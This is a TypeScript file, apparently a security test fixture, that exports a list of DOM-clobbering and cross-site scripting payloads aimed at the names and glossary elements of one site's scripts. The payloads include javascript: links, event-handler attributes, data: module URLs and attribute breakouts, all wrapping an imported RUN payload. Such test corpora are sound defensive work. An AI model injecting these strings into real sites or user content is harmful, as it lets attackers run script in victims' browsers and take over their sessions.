import { RUN } from './payload.ts';

/** Names that scripts look up on this site, in the browser or on every object. */
const NAMES = `
  page-state page-modules main glossary-tip list-search location document body head cookie forms
  scripts currentScript defaultView getElementById querySelector createElement documentElement
  fetch localStorage history parent top self opener name onerror __proto__ constructor prototype
  toString valueOf hasOwnProperty attributes innerHTML textContent nodeName parentNode children
  action submit elements length __reactFiber $_TSR process Symbol
`
  .trim()
  .split(/\s+/);

/** Named elements whose content runs if a script mistakes them for its own. */
export const CLOBBERING: readonly string[] = [
  ...NAMES.flatMap((name) => [
    `<a id="${name}" href="javascript:${RUN}">x</a>`,
    `<form name="${name}"><input name=innerHTML value="<img src=x onerror=${RUN}>"></form>`,
  ]),
  `<p id=page-state>{"queries":[[["site"],{"siteName":"<img src=x onerror=${RUN}>"}]]}</p>`,
  `<p id=page-modules>["data:text/javascript,${RUN}"]</p>`,
  `<script type=application/json id=page-modules>["data:text/javascript,${RUN}"]</script>`,
  `<script type=application/json id=page-state>{"queries":[],"failure":{"status":500,"body":""}}</script>`,
  `<meta property=csp-nonce nonce=x content=x>`,
  `<meta data-theme-color=dark media=all onload=${RUN}>`,
  `<a id=x><a id=x name=y href="javascript:${RUN}">x</a>`,
  `<form id=x><output name=y>javascript:${RUN}</output></form>`,
  `<iframe name=x srcdoc="&lt;a id=y href=javascript:parent.${RUN}&gt;"></iframe>`,
  `<img name=currentScript src="data:,${RUN}">`,
  `<svg id=documentElement><a id=innerHTML href="javascript:${RUN}"></a></svg>`,
  `<span class="glossary-term" data-term-id="0123456789abcdef01234567" data-term="<img src=x onerror=${RUN}>" data-definition="<svg onload=${RUN}>" onfocus=${RUN} tabindex=0>term</span>`,
  `<span class="glossary-term" data-term-id="&quot; onfocus=${RUN} tabindex=0 x=&quot;">term</span>`,
  `<span class='glossary-term" onfocus="${RUN}' data-term-id="0123456789ABCDEF01234567">term</span>`,
  `<span data-term-id=0123456789abcdef01234567 class=glossary-term><span class="glossary-term" data-term-id=0123456789abcdef01234567 onclick=${RUN}>a</span></span>`,
  `<p class="tip" role="tooltip" id="glossary-tip" onclick=${RUN}>x</p>`,
  `<p data-upto="1&quot; onclick=&quot;${RUN}">x</p>`,
  `<a data-radix-collection-item onclick=${RUN} href=x>x</a>`,
  `<div data-reactroot onclick=${RUN}>x</div>`,
  `<div class="ant-modal-root" onclick=${RUN}>x</div>`,
];
